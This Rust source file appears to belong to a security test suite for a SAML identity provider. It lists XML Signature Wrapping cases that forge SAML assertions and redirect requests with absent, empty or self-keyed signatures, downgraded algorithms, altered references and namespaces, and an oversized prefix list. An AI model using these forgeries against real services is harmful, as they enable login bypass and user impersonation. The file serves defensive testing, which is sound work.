//! XSW: signatures that are missing, of the wrong key, or of another form than the one there is.

use idp_saml::binding::Kind;

use super::{Entry, answer, at, wrapping::id_of};
use crate::attack::{
    browser::Sent,
    error::ForgeError,
    forge::{Forger, VICTIM, cut, paste, span, text, with_signature},
    stage::Door,
};

const RSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
const SHA256: &str = "http://www.w3.org/2001/04/xmlenc#sha256";
const EXCLUSIVE: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";
const SAML: &str = "urn:oasis:names:tc:SAML:2.0:assertion";

#[rustfmt::skip]
pub(super) static ENTRIES: &[Entry] = &[
    answer("XSW-14", "no signature", |f| f.answer(f.frame("", &f.evil()?)?)),
    answer("XSW-14", "an empty signature", |f| {
        empty_signature(f, "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"/>")
    }),
    answer("XSW-14", "a signature of another namespace", |f| {
        empty_signature(f, "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig\"/>")
    }),
    answer("XSW-15", "a good signature by a key that it brings itself", |f| f.answer(f.response()?)),
    answer("XSW-15", "the same, the assertion alone signed", |f| f.answer(f.draft(VICTIM)?.half_signed()?)),
    answer("XSW-15", "a key that is named as the agency's", |f| {
        with_key_info(f, &format!("<ds:KeyName>{}</ds:KeyName>", f.agency()))
    }),
    answer("XSW-15", "a key to be fetched elsewhere", |f| {
        with_key_info(f, &format!("<ds:RetrievalMethod URI=\"{}/key\"/>", f.canary))
    }),
    answer("XSW-15", "no word about the key", |f| with_key_info(f, "")),
    answer("XSW-19", "RSA with SHA-1", |f| {
        renamed(f, RSA_SHA256, "http://www.w3.org/2000/09/xmldsig#rsa-sha1")
    }),
    answer("XSW-19", "a digest by SHA-1", |f| renamed(f, SHA256, "http://www.w3.org/2000/09/xmldsig#sha1")),
    answer("XSW-19", "a digest by MD5", |f| renamed(f, SHA256, "http://www.w3.org/2001/04/xmldsig-more#md5")),
    answer("XSW-19", "HMAC", |f| renamed(f, RSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256")),
    answer("XSW-19", "no algorithm", |f| renamed(f, RSA_SHA256, "")),
    answer("XSW-21", "a reference to the whole document", |f| referring(f, |_| " URI=\"\"".to_owned())),
    answer("XSW-21", "a reference to nothing", |f| referring(f, |_| String::new())),
    answer("XSW-21", "an XPointer to the root", |f| referring(f, |_| " URI=\"#xpointer(/)\"".to_owned())),
    answer("XSW-21", "an XPointer to the ID", |f| referring(f, |id| format!(" URI=\"#xpointer(id('{id}'))\""))),
    answer("XSW-21", "a reference to another document", |f| {
        let canary = f.canary.to_owned();
        referring(f, move |id| format!(" URI=\"{canary}/#{id}\""))
    }),
    answer("XSW-21", "an ID spelt with escapes", |f| referring(f, |id| format!(" URI=\"#&#95;{}\"", id.trim_start_matches('_')))),
    answer("XSW-21", "an ID in capitals", |f| referring(f, |id| format!(" URI=\"#{}\"", id.to_uppercase()))),
    answer("XSW-23", "an assertion of SAML 1.1 beside the signed one", |f| {
        let evil = f.evil()?.replace(SAML, "urn:oasis:names:tc:SAML:1.0:assertion");
        let (declared, signed) = f.signed_assertion()?;
        f.answer(f.frame(&declared, &(evil + &signed))?)
    }),
    answer("XSW-23", "an assertion of a namespace that is nearly right", |f| {
        let near = format!("{SAML}/");
        f.answer(f.frame("", &f.evil()?.replace(SAML, &near))?)
    }),
    answer("XSW-23", "the prefix of signatures bound to something else", |f| {
        let xml = f.draft(VICTIM)?.half_signed()?;
        f.answer(xml.replacen("xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"", "xmlns:ds=\"urn:x\"", 1))
    }),
    answer("XSW-24", "inclusive canonicalization", |f| {
        renamed(f, EXCLUSIVE, "http://www.w3.org/TR/2001/REC-xml-c14n-20010315")
    }),
    answer("XSW-24", "a canonicalization that nobody knows", |f| renamed(f, EXCLUSIVE, "urn:x")),
    answer("XSW-24", "a list of 10,000 prefixes", |f| {
        let prefixes: Vec<_> = (0..10_000).map(|number| format!("p{number}")).collect();
        let list = format!(
            "<ec:InclusiveNamespaces xmlns:ec=\"{EXCLUSIVE}\" PrefixList=\"{}\"/>",
            prefixes.join(" ")
        );
        let xml = f.response()?;
        let method = span(&xml, "CanonicalizationMethod").ok_or(ForgeError::Missing("method"))?;
        f.answer(paste(&xml, method.inside.start, &list))
    }),
    at(Door::SsoRedirect, "XSW-27", "a signature inside a request by address, none around it", |f| {
        let request = f.request(Door::SsoRedirect, &f.any_provider())?;
        f.bring(Door::SsoRedirect, Kind::Request, f.signed_text(request)?)
    }),
    at(Door::SsoRedirect, "XSW-27", "an empty signature around a request", |f| {
        around_a_request(f, &format!("&SigAlg={}&Signature=", escaped(RSA_SHA256)))
    }),
    at(Door::SsoRedirect, "XSW-27", "an algorithm around a request, and no signature", |f| {
        around_a_request(f, &format!("&SigAlg={}", escaped(RSA_SHA256)))
    }),
    at(Door::SsoRedirect, "XSW-27", "SHA-1 around a request", |f| {
        let sha1 = escaped("http://www.w3.org/2000/09/xmldsig#rsa-sha1");
        around_a_request(f, &format!("&SigAlg={sha1}&Signature=AAAA"))
    }),
];

fn escaped(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

fn empty_signature(f: &Forger<'_>, signature: &str) -> Result<Sent, ForgeError> {
    f.answer(f.frame("", &with_signature(&f.evil()?, signature))?)
}

/// With other words about the key in the assertion's signature, which does not cover them.
fn with_key_info(f: &Forger<'_>, inside: &str) -> Result<Sent, ForgeError> {
    let xml = f.draft(VICTIM)?.half_signed()?;
    let info = span(&xml, "KeyInfo").ok_or(ForgeError::Missing("KeyInfo"))?;
    let changed = match inside {
        "" => cut(&xml, &info.whole),
        inside => paste(&cut(&xml, &info.inside), info.inside.start, inside),
    };
    f.answer(changed)
}

/// With the name of an algorithm in place of another.
fn renamed(f: &Forger<'_>, from: &'static str, to: &str) -> Result<Sent, ForgeError> {
    let xml = f.response()?;
    if !xml.contains(from) {
        return Err(ForgeError::Missing(from));
    }
    f.answer(xml.replace(&format!("\"{from}\""), &format!("\"{to}\"")))
}

/// With another reference in the assertion's signature; `refer` is told the right ID.
fn referring(f: &Forger<'_>, refer: impl Fn(&str) -> String) -> Result<Sent, ForgeError> {
    let (declared, signed) = f.signed_assertion()?;
    let id = id_of(&signed)?;
    let reference = span(&signed, "Reference").ok_or(ForgeError::Missing("Reference"))?;
    let tag = reference.whole.start..reference.inside.start;
    let written = signed.get(tag.clone()).unwrap_or_default();
    let prefix = written.trim_start_matches('<').split("Reference").next().unwrap_or_default();
    let changed = format!("<{prefix}Reference{}>", refer(&id));
    f.answer(f.frame(&declared, &paste(&cut(&signed, &tag), tag.start, &changed))?)
}

/// An unsigned request by address, with more in the address.
fn around_a_request(f: &Forger<'_>, more: &str) -> Result<Sent, ForgeError> {
    let request = text(&f.request(Door::SsoRedirect, &f.any_provider())?)?;
    match f.bring(Door::SsoRedirect, Kind::Request, request)? {
        Sent::Query(url) => Ok(Sent::Query(url + more)),
        other => Ok(other),
    }
}
